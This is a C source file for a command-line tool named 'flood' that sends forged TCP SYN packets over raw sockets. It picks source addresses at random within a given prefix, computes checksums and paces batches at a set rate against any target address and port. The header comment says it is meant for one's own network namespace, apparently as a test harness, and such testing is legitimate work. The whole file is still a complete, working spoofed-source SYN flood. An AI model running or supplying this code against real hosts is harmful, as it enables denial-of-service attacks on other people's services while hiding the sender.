/* SPDX-License-Identifier: MIT */
/* A flood of forged SYNs, for a network namespace of one's own:
 *
 *     flood SOURCES ADDRESS PORT RATE COUNT
 *
 * SOURCES is a prefix such as 198.18.0.0/16 (whole bytes), RATE is per second. The options are those of a
 * usual client. Prints "ready", and at the end how many were sent. */
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#include <arpa/inet.h>
#include <netinet/in.h>

enum { BATCH = 32, TCP_BYTES = 40, PACKET_MAX = 40 + TCP_BYTES };

struct attack {
    int fd, ip6;
    size_t varied; /* bytes of the source that are drawn by lot */
    unsigned char source[16], target[16];
    unsigned port;
    uint64_t random;
};

__attribute__((noreturn)) static void die(const char *what)
{
    fprintf(stderr, "flood: %s: %s\n", what, strerror(errno));
    exit(1);
}

/* splitmix64 */
static uint64_t draw(struct attack *attack)
{
    uint64_t z = attack->random += 0x9E3779B97F4A7C15u;

    z = (z ^ z >> 30) * 0xBF58476D1CE4E5B9u;
    z = (z ^ z >> 27) * 0x94D049BB133111EBu;
    return z ^ z >> 31;
}

static uint32_t add_up(uint32_t sum, const unsigned char *p, size_t bytes)
{
    for (size_t i = 0; i < bytes; i += 2)
        sum += (uint32_t)(p[i] << 8 | p[i + 1]);
    return sum;
}

static void put_sum(unsigned char *p, uint32_t sum)
{
    sum = (sum & 0xFFFF) + (sum >> 16);
    sum = ~((sum & 0xFFFF) + (sum >> 16));
    p[0] = (unsigned char)(sum >> 8);
    p[1] = (unsigned char)sum;
}

/* The header of TCP with MSS, SACK permitted, timestamps and window scale. */
static void make_tcp(struct attack *attack, unsigned char *tcp)
{
    static const unsigned char options[20] = { 2, 4, 5, 0xB4, 4, 2, 8, 10, 1, 2, 3, 4, 0, 0, 0, 0, 1, 3, 3, 7 };
    uint64_t lot = draw(attack);

    memset(tcp, 0, TCP_BYTES);
    tcp[0] = (unsigned char)(128 | lot);
    tcp[1] = (unsigned char)(lot >> 8);
    tcp[2] = (unsigned char)(attack->port >> 8);
    tcp[3] = (unsigned char)attack->port;
    memcpy(tcp + 4, (unsigned char *)&lot + 4, 4);
    tcp[12] = TCP_BYTES / 4 << 4;
    tcp[13] = 2;
    tcp[14] = 0xFA;
    memcpy(tcp + 20, options, sizeof options);
}

static size_t make_packet(struct attack *attack, unsigned char *p)
{
    size_t ip = attack->ip6 ? 40 : 20, address = attack->ip6 ? 16 : 4;
    unsigned char *source = p + (attack->ip6 ? 8 : 12), *tcp = p + ip;
    uint64_t lot = draw(attack);

    memset(p, 0, ip);
    memcpy(source, attack->source, address - attack->varied);
    memcpy(source + address - attack->varied, &lot, attack->varied);
    memcpy(source + address, attack->target, address);
    make_tcp(attack, tcp);
    put_sum(tcp + 16, add_up(add_up(6 + TCP_BYTES, source, 2 * address), tcp, TCP_BYTES));
    if (attack->ip6) {
        p[0] = 0x60;
        p[5] = TCP_BYTES;
        p[6] = 6;
        p[7] = 64;
        return ip + TCP_BYTES;
    }
    p[0] = 0x45;
    p[3] = 20 + TCP_BYTES;
    p[8] = 64;
    p[9] = 6;
    put_sum(p + 10, add_up(0, p, 20));
    return ip + TCP_BYTES;
}

static void open_socket(struct attack *attack, char *source, const char *target)
{
    char *bits = strchr(source, '/');
    size_t fixed = bits != NULL ? strtoul(bits + 1, NULL, 10) / 8 : 0;
    int one = 1, family;

    if (bits != NULL)
        *bits = '\0';
    attack->ip6 = strchr(target, ':') != NULL;
    attack->varied = (attack->ip6 ? 16 : 4) - fixed;
    family = attack->ip6 ? AF_INET6 : AF_INET;
    if (inet_pton(family, source, attack->source) != 1 || inet_pton(family, target, attack->target) != 1 ||
        attack->varied > 8) {
        fprintf(stderr, "flood: %s (with at most 8 bytes to draw) and %s do not go together\n", source, target);
        exit(2);
    }
    attack->fd = socket(family, SOCK_RAW, IPPROTO_RAW);
    if (attack->fd < 0 || (attack->ip6 && setsockopt(attack->fd, IPPROTO_IPV6, IPV6_HDRINCL, &one, sizeof one) != 0))
        die("raw socket");
}

/* @return how many of n were sent */
static int send_some(struct attack *attack, unsigned n)
{
    static unsigned char packets[BATCH][PACKET_MAX];
    struct sockaddr_in to4 = { .sin_family = AF_INET };
    struct sockaddr_in6 to6 = { .sin6_family = AF_INET6 };
    struct mmsghdr messages[BATCH];
    struct iovec parts[BATCH];
    int sent;

    memcpy(&to4.sin_addr, attack->target, 4);
    memcpy(&to6.sin6_addr, attack->target, 16);
    memset(messages, 0, sizeof messages);
    for (unsigned i = 0; i < n; i++) {
        parts[i].iov_base = packets[i];
        parts[i].iov_len = make_packet(attack, packets[i]);
        messages[i].msg_hdr.msg_iov = &parts[i];
        messages[i].msg_hdr.msg_iovlen = 1;
        messages[i].msg_hdr.msg_name = attack->ip6 ? (void *)&to6 : (void *)&to4;
        messages[i].msg_hdr.msg_namelen = attack->ip6 ? sizeof to6 : sizeof to4;
    }
    sent = sendmmsg(attack->fd, messages, n, 0);
    if (sent < 0 && errno != ENOBUFS && errno != EAGAIN)
        die("sendmmsg");
    return sent < 0 ? 0 : sent;
}

static double now_s(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec * 1e-9;
}

int main(int argc, char **argv)
{
    struct attack attack = { .random = 1 };
    unsigned long count, sent = 0, turns = 0;
    double rate, began;

    if (argc != 6) {
        fputs("Usage: flood SOURCES ADDRESS PORT RATE COUNT\n", stderr);
        return 2;
    }
    open_socket(&attack, argv[1], argv[2]);
    attack.port = (unsigned)atoi(argv[3]);
    rate = atof(argv[4]);
    count = strtoul(argv[5], NULL, 10);
    puts("ready");
    fflush(stdout);
    for (began = now_s(); sent < count; turns++) {
        struct timespec pause = { 0, 200000 };

        while (now_s() < began + (double)turns * BATCH / rate)
            nanosleep(&pause, NULL);
        sent += (unsigned long)send_some(&attack, BATCH);
    }
    printf("{\"sent\": %lu, \"seconds\": %.2f}\n", sent, now_s() - began);
    return 0;
}
